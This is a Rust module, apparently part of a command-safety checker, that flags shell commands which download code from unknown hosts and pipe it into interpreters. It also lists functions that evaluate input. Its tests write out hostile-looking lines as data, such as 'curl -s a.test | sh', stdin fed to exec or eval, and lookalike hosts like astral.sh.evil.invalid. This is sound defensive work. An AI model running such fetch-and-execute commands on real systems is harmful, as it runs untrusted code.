//! Conditions on the origin of code that is executed.

use super::hosts::{from_known_host, is_no_registry, is_unknown};
use crate::hosts::{addresses, is_near, trust_at};

pub(crate) fn from_unknown_host(text: &str) -> bool {
    !from_known_host(text) && !is_local(text)
}

/// Returns true if a command contains an address and none of a known host.
pub(crate) fn names_unknown_host(text: &str) -> bool {
    let is_address = |word: &str| !word.starts_with('-') && word != "..." && word.contains(['.', '$', '/', '%', ':']);
    text.split_whitespace().any(is_address) && from_unknown_host(text)
}

/// Returns true if every host is local, a sample or elided.
pub(crate) fn is_local(text: &str) -> bool {
    let is_left_out = |host: &str| is_near(host) || host == "example.com" || host.starts_with("..");
    addresses(text).next().is_some() && addresses(text).all(|address| is_left_out(&address.host))
}

/// Returns true if an IPv4 address is routed on the internet. Public resolvers and the blocks for documentation (RFC
/// 5737) do not count.
pub(crate) fn is_public_address(url: &str) -> bool {
    let host = url.split("://").nth(1).unwrap_or("");
    let numbers: Vec<u8> =
        host.split(|c: char| !c.is_ascii_digit()).take(4).filter_map(|part| part.parse().ok()).collect();
    let [a, b, c, d] = numbers[..] else { return false };
    let documentation = matches!((a, b, c), (192, 0, 2) | (198, 51, 100) | (203, 0, 113));
    let local = matches!(a, 0 | 10 | 127 | 224..) || (a, b) == (192, 168) || (a, b) == (169, 254);
    let shared = (a == 172 && (16..32).contains(&b)) || (a == 100 && (64..128).contains(&b));
    let sample =
        matches!((a, b, c, d), (1, 2, 3, 4) | (1, 1, 1, 1) | (1, 0, 0, 1) | (8, 8, 8, 8) | (8, 8, 4, 4) | (9, 9, 9, 9));
    !(documentation || local || shared || sample)
}

/// Returns true if a host is not one from which vendors and registries distribute packages.
pub(crate) fn comes_from_strangers(matched: &str) -> bool {
    let mut all = addresses(matched).peekable();
    let is_usual =
        all.peek().is_some() && all.all(|address| is_near(&address.host) || trust_at(&address).gives_packages());
    is_unknown(matched) && !is_usual
}

/// Returns true if packages come from an address that belongs neither to a registry nor to a vendor.
pub(crate) fn is_no_usual_source(matched: &str) -> bool {
    addresses(matched).next().is_none() || is_no_registry(matched)
}

/// Returns true if a recipe is neither in a repository open to review nor from its publisher.
pub(crate) fn is_nobodys_recipe(matched: &str) -> bool {
    is_no_usual_source(matched)
}

/// Substrings of programs that may run what they read, other than shell scripts.
const EVALUATES: &[&str] = &[
    "exec", "eval", "system", "popen", "spawn", "subprocess", "child_process", "Function(", "FunctionType", "runIn",
    "runpy", "interact", "runsource", "__import__", "importlib", "import_module", "getattr", "builtins", "globals",
    "pickle", "marshal", "yaml.load(", "chr(", "ctypes", "require_relative", "qx", "%x", "`", "$(",
];

/// Words of shell scripts that may run what they read.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "eval", "source", "xargs", "stdin", "read", "mapfile", "parallel", "env",
    "sudo", "exec", "command", "python", "python3", "node", "perl", "ruby", "php", "tee", "dd",
];

/// Returns true if a download from an unknown host is run, and not read by a program in the command.
pub(crate) fn runs_what_strangers_send(matched: &str) -> bool {
    let is_piped = ["curl", "wget"].iter().any(|program| matched.trim_start_matches("\\n").starts_with(program));
    names_unknown_host(matched) && (!is_piped || runs_its_input(matched))
}

/// Returns true if an interpreter behind a pipe may run what it receives. With a program in the command, as in `python3
/// -c "…"`, or in a file, as in `python3 parse.py`, it runs that program and reads the rest as data, unless the program
/// in the command evaluates it.
pub(crate) fn runs_its_input(matched: &str) -> bool {
    !runs_files(matched) && runs_written_program(matched)
}

/// Returns true unless an interpreter behind a pipe runs a program in the command that reads its input as data.
fn runs_written_program(matched: &str) -> bool {
    written_program(matched).is_none_or(|(is_shell, program)| {
        if is_shell {
            let mut words = program.split(|c: char| !c.is_alphanumeric());
            program.contains(['$', '`', '<', '/']) || words.any(|word| SHELLS.contains(&word))
        } else {
            program.starts_with("\"$") || EVALUATES.iter().any(|word| program.contains(word))
        }
    })
}

/// Options of shells, and of other interpreters, that take no value and no program from the input.
const OPTIONS_OF_SHELLS: &str = "euxvlpf";
const OPTIONS: &str = "uBIOwn";

/// Extensions of program files.
const PROGRAMS: &[&str] = &["py", "js", "cjs", "mjs", "sh", "bash", "zsh", "pl", "rb", "php"];

/// Returns true if every interpreter behind a pipe runs a program file.
fn runs_files(matched: &str) -> bool {
    let mut commands = matched.split('|').skip(1).filter_map(runs_file).peekable();
    commands.peek().is_some() && commands.all(|runs_file| runs_file)
}

/// Returns whether an interpreter runs a program file. Returns `None` for another command.
fn runs_file(command: &str) -> Option<bool> {
    let is_before = |word: &&str| matches!(*word, "sudo" | "env") || word.starts_with('-') || word.contains('=');
    let mut words = command.split_whitespace().skip_while(is_before);
    let name = words.next()?;
    let name = name.rsplit('/').next().unwrap_or(name);
    let is_shell = matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh");
    let is_other = ["python", "node", "perl", "ruby", "php"].iter().any(|other| name.starts_with(other));
    if !is_shell && !is_other {
        return None;
    }
    let plain = if is_shell { OPTIONS_OF_SHELLS } else { OPTIONS };
    let is_plain = |option: &str| {
        let letters = option.strip_prefix('-').unwrap_or("");
        let is_long = ["-no-", "-experimental-"].iter().any(|start| letters.starts_with(start));
        is_long || !letters.is_empty() && letters.chars().all(|letter| plain.contains(letter))
    };
    let first = words.find(|word| !is_plain(word));
    Some(first.is_some_and(is_program_file))
}

/// Returns whether a word is the path of a program file, and not another name of the input.
fn is_program_file(word: &str) -> bool {
    let path = word.trim_matches(['"', '\'', '`', '\\']);
    let is_named = path.rsplit_once('.').is_some_and(|(_, extension)| PROGRAMS.contains(&extension));
    let is_input = ["stdin", "/fd/", "://"].iter().any(|part| path.contains(part));
    let is_open = path.contains(['$', '{']) && !(is_named && path.contains('/'));
    !path.starts_with(['-', '<']) && !is_input && !is_open && (is_named || path.contains('/'))
}

/// Returns the quoted program with which a command ends, such as `sort -u` in `x | sh -c 'sort -u'`, with true if a shell
/// runs it.
fn written_program(matched: &str) -> Option<(bool, &str)> {
    let mark = matched.chars().next_back().filter(|last| matches!(last, '"' | '\''))?;
    let is_before = |word: &&str| matches!(*word, "sudo" | "env") || word.starts_with('-') || word.contains('=');
    let mut rest = matched;
    while let Some((_, command)) = rest.split_once('|') {
        let name = command.split_whitespace().find(|word| !is_before(word))?;
        let is_shell = name.ends_with("sh");
        if is_shell || ["python", "node", "perl", "ruby"].iter().any(|other| name.starts_with(other)) {
            let (head, _) = command.split_once(mark)?;
            let letter = if is_shell || name.starts_with("python") { 'c' } else { 'e' };
            let option =
                head.trim_end_matches('\\').split_whitespace().next_back().filter(|word| word.starts_with('-'))?;
            let is_code = option.ends_with([letter, letter.to_ascii_uppercase()]);
            return is_code.then(|| (is_shell, command.get(head.len()..).unwrap_or("")));
        }
        rest = command;
    }
    None
}

/// Returns true if the command does not search for such an object.
pub(crate) fn is_no_search(matched: &str) -> bool {
    !matched.contains("grep")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn written_program_reads_its_input_as_data() {
        for data in [
            r#"ssh h cat x | python3 -c "import json, sys; print(json.load(sys.stdin))""#,
            "ssh h cat x | sudo -E python3 -u -c 'import sys'",
            "ssh h cat x | base64 -d | perl -ne 'print'",
            r#"ssh h "cat x | python3 -c \"import json, sys\""#,
            "ssh h cat x | node -e 'process.stdin.pipe(process.stdout)'",
            "ssh h cat x | ruby -e 'puts $stdin.read'",
            "ssh h cat x | bash -c 'sort | uniq'",
            "curl -s a.test | tee x | sudo /bin/bash -c 'sort'",
            "ssh h cat x | python3 parse.py",
            "ssh h 'cat x' | sudo -E python3 -u \"$DIR/parse.py\"",
            "ssh h \"cat x | python3 parse.py\"",
            "ssh h cat x | node --no-warnings ./parse",
            "curl -s a.test | tee x | bash -eu parse.sh total",
        ] {
            assert!(!runs_its_input(data), "{data}");
        }
        for code in [
            "ssh h cat x | sudo sh",
            "ssh h cat x | python3",
            "ssh h cat x | python3 -c 'import sys; exec(sys.stdin.read())'",
            "ssh h cat x | python3 -c \"$PROGRAM\"",
            "ssh h cat x | python3 -c 'print(1)' | bash",
            "ssh h cat x | perl -e 'eval <STDIN>'",
            "ssh h cat x | bash -c \"$(cat)\"",
            "ssh h cat x | bash -c 'sh'",
            "ssh h cat x | bash -e 'x'",
            "ssh h cat x | perl -c 'x'",
            "ssh h cat x | python3 -",
            "ssh h cat x | python3 -i parse.py",
            "ssh h cat x | python3 /dev/stdin",
            "ssh h cat x | sh -s parse.sh",
            "ssh h cat x | sh $FILE",
            "ssh h cat x | sh total",
            "ssh h cat x | node -r ./parse.js",
            "ssh h cat x | python3 parse.py | sh",
            "'curl -s a.test | node'",
            "\"curl -s a.test | sh\"",
        ] {
            assert!(runs_its_input(code), "{code}");
        }
    }

    #[test]
    fn a_known_host_is_matched_whole_and_over_tls() {
        assert!(
            from_known_host("curl https://sh.rustup.rs | sh") && from_known_host("curl -L https://astral.sh/uv/x | sh")
        );
        for bad in [
            "https://astral.sh.evil.invalid/x",
            "http://astral.sh/x",
            "https://notastral.sh/x",
            "https://evil.invalid/astral.sh",
            "curl -k https://astral.sh/x | sh",
            "curl -fsSLk https://astral.sh/x | sh",
            "wget --no-check-certificate -qO- https://astral.sh/x | sh",
            "curl astral.sh/x | sh",
            "curl evil.invalid/x && curl https://astral.sh/x | sh",
            "https://evil.vercel.app/astral.sh",
            "https://github.com/evil/uv/releases/download/1/x",
            "https://raw.githubusercontent.com/evil/nvm-sh/x",
        ] {
            assert!(!from_known_host(bad), "{bad}");
        }
        for good in [
            "https://github.com/docker/compose/releases/download/v2/x",
            "curl -fsSL https://raw.githubusercontent.com/homebrew/install/HEAD/install.sh",
            "curl -fsSL https://fnm.vercel.app/install",
        ] {
            assert!(from_known_host(good), "{good}");
        }
        assert!(!from_known_host("curl https://astral.sh/x https://evil.invalid/y"), "every host must be known");
    }
}
